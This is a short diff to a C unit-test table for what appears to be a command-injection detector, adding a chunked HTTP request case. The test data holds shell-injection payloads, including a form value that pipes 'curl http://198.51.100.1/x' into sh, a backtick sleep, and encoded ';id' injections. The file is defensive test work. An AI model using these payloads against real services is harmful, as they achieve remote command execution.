@@ -56,6 +56,8 @@ static void what_stands_behind_a_delimiter_is_the_code(void **state)
 		{ HEAD("/p?ip=%60sleep%205%60"), LANGUAGE_SHELL, "sleep 5", CONTEXT_SUBSTITUTION, SINK_RESOURCE },
 		{ FORM("email=a%40b;curl http://198.51.100.1/x|sh"), LANGUAGE_SHELL, "curl http://198.51.100.1/x|sh",
 		  CONTEXT_AFTER, SINK_RESOURCE },
+		{ "POST /l HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n7\r\nip=1%3B\r\n2\r\nid\r\n0\r\n\r\n", LANGUAGE_SHELL, "id",
+		  CONTEXT_AFTER, SINK_RESOURCE },
 		{ "POST /j HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{\"h\":\"1\\u003bid\"}", LANGUAGE_SHELL, "id",
 		  CONTEXT_AFTER, SINK_RESOURCE },
 	};
